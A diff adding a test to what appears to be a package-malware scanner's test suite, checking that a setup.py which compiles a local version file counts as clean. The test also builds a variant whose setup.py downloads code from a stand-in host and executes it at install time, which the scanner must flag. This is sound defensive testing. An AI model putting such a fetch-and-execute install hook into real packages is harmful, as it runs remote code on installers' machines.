@@ -1526,3 +1526,23 @@ def test_eighteenth_and_nineteenth_held_out_batch_shapes() -> None:
     for files in bad:
         result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
         assert result != "clean", (sorted(files), findings)
+
+
+def test_a_version_reader_that_reassigns_its_text_is_followed_to_the_file() -> None:
+    """``source = file.read()`` then ``source = source.replace(...)`` before ``compile(source, ...)``
+    (suds-community, batch 21): the lookup of ``source`` went round its own reassignment until it gave up,
+    so the shipped version file read as dynamic code."""
+    setup_py = ("import os\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\n"
+                "def read_python_code(filename):\n    file = open(filename, 'rt')\n    try:\n"
+                "        source = file.read()\n    finally:\n        file.close()\n"
+                "    source = source.replace('\\r\\n', '\\n').replace('\\r', '\\n')\n"
+                "    return compile(source, filename, 'exec')\n"
+                "exec(read_python_code(os.path.join(here, 'helperlib', 'version.py')))\n"
+                "setup(name='helperlib', version=__version__, packages=['helperlib'])\n")
+    files = {"setup.py": setup_py, "helperlib/__init__.py": "", "helperlib/version.py": "__version__ = '0.1'\n"}
+    result, findings = verdict(sdist("helperlib", "0.1", files))
+    assert result == "clean", findings
+    fetched = setup_py.replace("source = file.read()",
+                               "source = __import__('urllib.request').request.urlopen('http://x.example/v').read()")
+    result, findings = verdict(sdist("helperlib", "0.1", {**files, "setup.py": fetched}))
+    assert result != "clean", findings
